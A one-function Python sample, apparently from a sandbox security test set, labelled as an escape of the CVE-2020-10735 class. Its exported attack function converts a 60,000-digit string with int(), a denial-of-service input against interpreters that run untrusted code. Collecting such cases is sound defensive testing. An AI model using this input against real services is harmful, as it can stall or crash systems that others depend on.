# escape: int() of a huge digit string | source: CVE-2020-10735 class
@export
def attack():
    return int('9' * 60000)
